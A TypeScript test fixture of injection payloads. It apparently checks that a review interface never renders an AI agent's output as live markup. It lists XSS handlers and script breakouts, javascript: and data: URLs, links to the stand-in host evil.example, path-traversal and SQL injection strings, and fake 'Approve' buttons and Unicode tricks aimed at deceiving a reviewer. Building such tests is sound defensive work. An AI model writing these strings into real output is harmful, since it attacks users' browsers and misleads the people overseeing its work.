const RUN = 'globalThis.pwned=1'

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'iframe',
  'input autofocus',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']

/** Markup that would run something if it ever became markup. */
const MARKUP = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=${RUN}>`))

/** What breaks out of attributes, templates, scripts and styles. */
const BREAKS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<style>@import url(https://evil.example/x.css)</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button autofocus>Approve</button></form>`,
  `<object data=https://evil.example/></object>`,
  `<embed src=https://evil.example/>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src=https://evil.example/></iframe>`,
  `<img src=https://evil.example/pixel.png>`,
  `![x](https://evil.example/pixel.png)`,
  `[Approve](javascript:${RUN})`,
  `<a href="https://evil.example/" target=_blank autofocus>open</a>`,
  `<dialog open><button>Approve</button></dialog>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
]

/** What deceives the eye, or breaks what reads it. */
const TRICKS = [
  '\u202eevorppa\u202c',
  '\u200b\u200b\u200b',
  'a\u0000b',
  '\u001b[2J\u001b[31mApproved\u001b[0m',
  '\r\nApproved by ada\r\n',
  'x'.repeat(900),
  '𝕏'.repeat(200),
  'z\u0300\u0301\u0302\u0303\u0304'.repeat(40),
  '__proto__',
  'constructor',
  'toString',
  '%00%0a%2e%2e%2f',
  '../../../etc/passwd',
  '\u2028\u2029',
  '\u{e0041}\u{e0042}',
  'شهادة \u2067approve\u2069',
  '"; DROP TABLE checkpoints; --',
  '\\u003cscript\\u003e',
  '&lt;script&gt;&#x3c;script&#62;',
]

/** Over a hundred texts that an agent could write to reach past its reviewer. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKS, ...TRICKS]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
  'vbscript:x',
  'https://evil.example/a.png',
  '//evil.example/a.png',
  '/v1/sign-out',
  '/pulls',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
]

/** Every way in which Markdown makes something of an address. */
const FORMS: readonly ((address: string) => string)[] = [
  (address) => `![Approve](${address})`,
  (address) => `[Approve](${address})`,
  (address) => `[![Approve](${address})](${address})`,
  (address) => `[Approve](<${address}> "onmouseover=${RUN}")`,
  (address) => `<${address}>`,
  (address) => `[Approve][x]\n\n[x]: ${address}`,
  (address) => `<a href="${address}">Approve</a>`,
  (address) => `# [Approve](${address})\n\n> ![x](${address})`,
]

const MARKDOWN = [
  ...ADDRESSES.flatMap((address) => FORMS.map((form) => form(address))),
  '```html\n<script>globalThis.pwned=1</script>\n```',
  '    <script>globalThis.pwned=1</script>',
  '| a | <button>Approve</button> |\n|---|---|\n| ![x](//evil.example/a) | [y](javascript:pwned=1) |',
  `${'> '.repeat(400)}deep`,
  `${'- '.repeat(300)}deep`,
  '<style>*{display:none}</style>\n\n<link rel=stylesheet href=//evil.example/x.css>',
  '&lt;script&gt;globalThis.pwned=1&lt;/script&gt;',
  '**<img src=x onerror=globalThis.pwned=1>**',
  `~~\`<svg onload=${RUN}>\`~~`,
  '- [x] <input type=checkbox autofocus onfocus=globalThis.pwned=1> Approved by ada',
]

/** Over two hundred texts for work that is reviewed: the same, and what Markdown could make of a text. */
export const WORK_PAYLOADS: readonly string[] = [...PAYLOADS, ...MARKDOWN]
